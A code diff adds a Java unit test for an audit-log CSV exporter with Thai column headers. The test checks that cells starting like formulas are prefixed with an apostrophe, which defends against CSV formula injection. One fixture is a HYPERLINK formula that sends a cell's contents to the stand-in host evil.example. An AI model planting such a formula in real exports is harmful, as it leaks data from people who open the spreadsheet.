@@ -51,4 +51,29 @@ class AuditCsvTest {
         assertThat(claim.get("รายละเอียด")).isEmpty();
         assertThat(records.get(1).get("รายละเอียด")).isEqualTo("แนบรายงาน, \"ฉบับแก้ไข\"\nบรรทัดที่สอง");
     }
+
+    @Test
+    void cellsAUserWroteThatStartLikeAFormula_areQuotedSoASpreadsheetShowsThemAsText() throws IOException {
+        Date time = Date.from(Instant.parse("2026-11-26T03:31:05Z"));
+        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"คลิก\")";
+        List<TimelineEntry> entries = List.of(
+                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "@SUM(1+1)", formula, "t1", "finance",
+                        "+1 มาตรการ"),
+                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "\tแท็บ", "-2+3", "t1", "finance", "\rCR"),
+                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "ขั้นตอน", "ปกติ = ไม่ใช่สูตร", "t1",
+                        "finance", "1. มาตรการ"));
+
+        String text = new String(csv.bytes(entries), StandardCharsets.UTF_8);
+        List<CSVRecord> records = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(text.substring(1))).getRecords();
+
+        assertThat(records.get(0).get("รายละเอียด")).isEqualTo("'" + formula);
+        assertThat(records.get(0).get("ขั้นตอน")).isEqualTo("'@SUM(1+1)");
+        assertThat(records.get(0).get("มาตรการ")).isEqualTo("'+1 มาตรการ");
+        assertThat(records.get(1).get("รายละเอียด")).isEqualTo("'-2+3");
+        assertThat(records.get(1).get("ขั้นตอน")).isEqualTo("'\tแท็บ");
+        assertThat(records.get(1).get("มาตรการ")).isEqualTo("'\rCR");
+        assertThat(records.get(2).get("รายละเอียด")).isEqualTo("ปกติ = ไม่ใช่สูตร");
+        assertThat(records.get(2).get("มาตรการ")).isEqualTo("1. มาตรการ");
+    }
 }
